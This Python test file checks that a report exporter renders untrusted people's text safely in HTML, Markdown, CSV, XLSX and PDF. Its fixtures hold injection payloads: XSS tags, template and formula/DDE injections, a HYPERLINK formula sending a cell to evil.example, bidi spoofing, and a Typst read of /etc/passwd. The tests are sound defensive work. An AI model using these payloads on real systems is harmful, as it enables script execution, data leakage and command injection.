"""What people write is shown as text in every format: it runs nothing, hides nothing, breaks no page."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from typing import ClassVar

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.transforms.weekly.browser import needs_chromium, opened
from tests.transforms.weekly.house import WEEK, furnish, house, told
from transforms.weekly import html, markdown, tables
from transforms.weekly.untrusted import address, place, shown
from transforms.weekly.write import write

SCRIPT = "<script>alert(document.domain)</script><img src=x onerror=alert(1)><svg/onload=alert(2)>"
HOSTILE = {
    "script": SCRIPT,
    "closing": "</style></title></script><!-- --><script>alert(3)</script>",
    "template": "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7} #let x = 1",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1", "minus": "-2+3", "tab": "\t=1+1", "space": " =1+1", "wide": "\uff1d1+1",
    "override": "invoice\u202egnp.exe\u202c \u2066isolated\u2069",
    "long": "x" * 10_000,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇪🇸 é e\u0301",
    "nul": "a\x00b\x07c\x1b[31md\x7f\x9b",
    "lone": "half \ud83d of a pair",
    "lines": "one\r\ntwo\u2028three\n\n# heading\n| a | b |\n```",
    "markdown": "[click](javascript:alert(1)) **bold** ![x](http://evil.example/x.png) <b>",
    "typst": '#image("/etc/passwd") $x^2$ *bold* @ref <label> // comment \\ #panic()',
    "arabic": "مرحبا بالعالم 123 abc",
    "zero": "in\u200bvis\u200bible\ufeff",
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory):
    """The furnished house, and a person, a post, a page, a phrase and a rejected reason of every kind."""
    folder = tmp_path_factory.mktemp("hostile")
    with house(folder) as made:
        furnish(made)
        for number, (kind, words) in enumerate(HOSTILE.items()):
            words = words.encode("utf-8", "replace").decode()  # DuckDB keeps no half of a pair
            made.person(f"h-{kind}", words, role=words, organisation=words)
            post = made.post(f"bluesky:h{number}", f"h-{kind}", words, url=f"javascript:alert({number})", title=words)
            made.interest(f"h-{kind}", "heat", "0.5", low="0.4", high="0.6", trend="new", evidence=(post,))
            made.put("marts.rising_phrases", week_start=WEEK.start, phrase=words[:500], words=1, rank=number + 2, posts=6, people=3,
                     days=3, posts_before="0", ratio="2", z_score="4", influencer_ids=[f"h-{kind}"], evidence_post_ids=[post])  # fmt: skip
            made.put("marts.shared_links", link_id=f"l{number}", week_start=WEEK.start, canonical_url=f"javascript:alert({number})",
                     site=words, title=words, people=2, posts=2, influencer_ids=[f"h-{kind}"], first_influencer_id=f"h-{kind}",
                     first_at=datetime(2026, 10, 20), evidence_post_ids=[post])  # fmt: skip
            made.put("marts.completeness", account_id=f"bluesky:h-{kind}", week_start=WEEK.start, influencer_id=f"h-{kind}",
                     platform="bluesky", state="failed", reason=words)  # fmt: skip
            made.put("marts.reply_queue", recommendation_id=f"reply-h{number}", post_id=post, platform="bluesky", url=words,
                     brand_account_id="bluesky:us", addressed_by="mention", author_name=words, author_handle=words, place=number + 2,
                     state="open", waiting_hours="1", sla_hours="4", is_late=False, triage="question", rule="asks", words=words,
                     reason=words, expires_at=datetime(2026, 11, 20), evidence_post_ids=[post])  # fmt: skip
        report = told(made)
    write(report, folder)
    return report, folder


def test_no_tag_of_theirs_is_a_tag_of_the_page(hostile) -> None:
    from selectolax.lexbor import LexborHTMLParser

    report, folder = hostile
    tree = LexborHTMLParser((folder / "report.html").read_text(encoding="utf-8"))
    assert len(tree.css("script")) == 1
    assert not tree.css("img, iframe, object, embed, link, base, form")
    for node in tree.css("*"):
        assert not [name for name in node.attributes if name.startswith("on") or name == "style"], node.html[:200]
    for link in tree.css("a"):
        assert link.attributes["href"].startswith(("#", "http://", "https://", "people/")), link.html
    text = tree.body.text()
    assert SCRIPT in text
    assert "{{ 7 * 7 }} {% for x in y %}" in text


def test_turning_and_hidden_letters_are_named(hostile) -> None:
    _, folder = hostile
    for name in ("report.html", "report.md", "csv/people.csv"):
        text = (folder / name).read_text(encoding="utf-8")
        assert "invoice[RLO]gnp.exe[PDF] [LRI]isolated[PDI]" in text.replace("\\", "")
        assert "a␀b␇c␛" in text
        assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x00\x07\x1b\ufeff") - {
            "\ufeff"
        }


@needs_chromium
def test_a_browser_runs_nothing_asks_nobody_and_complains_of_nothing(hostile) -> None:
    _, folder = hostile
    for how in (
        {},
        {"color_scheme": "dark"},
        {"viewport": {"width": 360, "height": 780}},
        {"java_script_enabled": False},
    ):
        with opened(folder / "report.html", **how) as (page, said):
            assert page.locator("h1").inner_text().startswith("Halden Heat")
            if how.get("java_script_enabled", True):
                # nothing of theirs is wider than the page: a table scrolls within itself
                assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
                assert page.evaluate("document.querySelectorAll('th button').length") > 100
        assert said == []


@needs_chromium
def test_the_policy_of_the_page_stops_a_script_that_got_in(hostile, tmp_path: Path) -> None:
    _, folder = hostile
    page_text = (folder / "report.html").read_text(encoding="utf-8")
    (tmp_path / "broken.html").write_text(
        page_text.replace("</main>", "<script>document.title='run'</script><img src='http://127.0.0.1:9/x'></main>"),
        encoding="utf-8",
    )
    with HTTPServer(("127.0.0.1", 0), _Heard) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        file = tmp_path / "broken.html"
        file.write_text(
            file.read_text(encoding="utf-8").replace("127.0.0.1:9", f"127.0.0.1:{server.server_port}"), encoding="utf-8"
        )
        with opened(file) as (page, said):
            assert page.title() != "run"
        server.shutdown()
    assert any("content security policy" in line.casefold() for line in said)
    assert _Heard.asked == []


class _Heard(BaseHTTPRequestHandler):
    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(404)
        self.end_headers()


def test_no_cell_of_the_workbook_is_a_formula(hostile) -> None:
    import zipfile

    from openpyxl import load_workbook

    report, folder = hostile
    with zipfile.ZipFile(folder / "report.xlsx") as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in book.read(name), name
            assert b"javascript:" not in book.read(name) or not name.endswith(".rels"), name
    for sheet in load_workbook(folder / "report.xlsx").worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if cell.hyperlink and cell.hyperlink.target:
                    assert cell.hyperlink.target.startswith(("http://", "https://"))
    names = {cell.value for cell in load_workbook(folder / "report.xlsx")["People"]["A"]}
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in names


def test_no_cell_of_a_csv_begins_as_a_formula_does(hostile) -> None:
    _, folder = hostile
    for file in sorted((folder / "csv").glob("*.csv")):
        with file.open(encoding="utf-8-sig", newline="") as opened_file:
            for row in csv.reader(opened_file):
                for cell in row:
                    assert not cell.lstrip().startswith(("=", "+", "@", "\t", "\uff1d")), (file.name, cell)
                    if cell.startswith("-"):
                        float(cell)  # a negative number is one


def test_a_long_word_is_cut_and_no_page_of_the_pdf_is_torn(hostile) -> None:
    from pypdf import PdfReader

    report, folder = hostile
    assert "x" * 300 not in (folder / "report.html").read_text(encoding="utf-8")
    pdf = PdfReader(folder / "report.pdf")
    text = "".join(page.extract_text() for page in pdf.pages).replace("\u200b", "").replace("\n", "")
    assert "#image(" in text  # as words, not as a picture
    assert "root:" not in text
    assert all(page.mediabox.width == pytest.approx(595, abs=1) for page in pdf.pages)


def test_markdown_of_theirs_is_no_markdown(hostile) -> None:
    from markdown_it import MarkdownIt

    _, folder = hostile
    tree = MarkdownIt("commonmark").enable("table").parse((folder / "report.md").read_text(encoding="utf-8"))
    links = [
        child.attrs["href"] for token in tree for child in token.children or () if child.type in ("link_open", "image")
        for _ in [0] if "href" in child.attrs
    ]  # fmt: skip
    assert all(href.startswith(("http://", "https://")) for href in links)
    assert not any("evil.example" in href for href in links)
    kinds = {child.type for token in tree for child in token.children or ()} | {token.type for token in tree}
    assert not kinds & {"html_block", "html_inline", "image", "fence", "code_block"}
    assert "heading" not in {token.content for token in tree if token.type == "inline"}


ANY = st.text(st.characters(), max_size=400)


@given(ANY)
@settings(max_examples=300, deadline=None)
def test_any_text_fits_every_format(text: str) -> None:
    line = shown(text)
    line.encode()  # no half of a pair
    assert not any(ord(letter) < 32 or 0x7F <= ord(letter) < 0xA0 for letter in line)
    assert shown(line) == line
    assert markdown.escaped(line).replace("\\", "") == line.replace("\\", "")
    cell = tables._cell(line)
    assert not str(cell).lstrip().startswith(("=", "+", "-", "@"))


@given(ANY)
def test_any_address_is_one_of_the_web_or_none(text: str) -> None:
    for url in (text, f"https://{text}", f"http://a.example/{text}", f"javascript:{text}"):
        found = address(url)
        assert not found or (found == url.replace("'", "%27") and found.startswith(("http://", "https://")))
        assert not set(found) & set("\"<>' \n")


@given(ANY, ANY)
@settings(suppress_health_check=[HealthCheck.too_slow])
def test_places_hold_plain_letters_and_differ_where_names_do(one: str, other: str) -> None:
    assert set(place("person", one)) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
    if one != other:
        assert place("person", one) != place("person", other)


def test_letters_are_counted_as_a_reader_counts_them() -> None:
    family = "👩‍👩‍👧‍👦"
    assert shown(family * 10, 10) == family * 10
    assert shown(family * 11, 10) == family * 9 + "…"
    assert html  # the page's own tests are above


@pytest.mark.slow
@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="no LibreOffice is installed; apt-get install libreoffice-calc"
)
def test_libreoffice_shows_formulas_as_words(hostile, tmp_path: Path) -> None:
    from pypdf import PdfReader

    _, folder = hostile
    home = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    subprocess.run(["soffice", home, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(folder / "report.xlsx")],
                   check=True, capture_output=True, timeout=120)  # fmt: skip
    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "report.pdf").pages)
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in text
    assert "@SUM(1+1)*cmd" in text
    assert "#NAME?" not in text
    assert "Err:" not in text
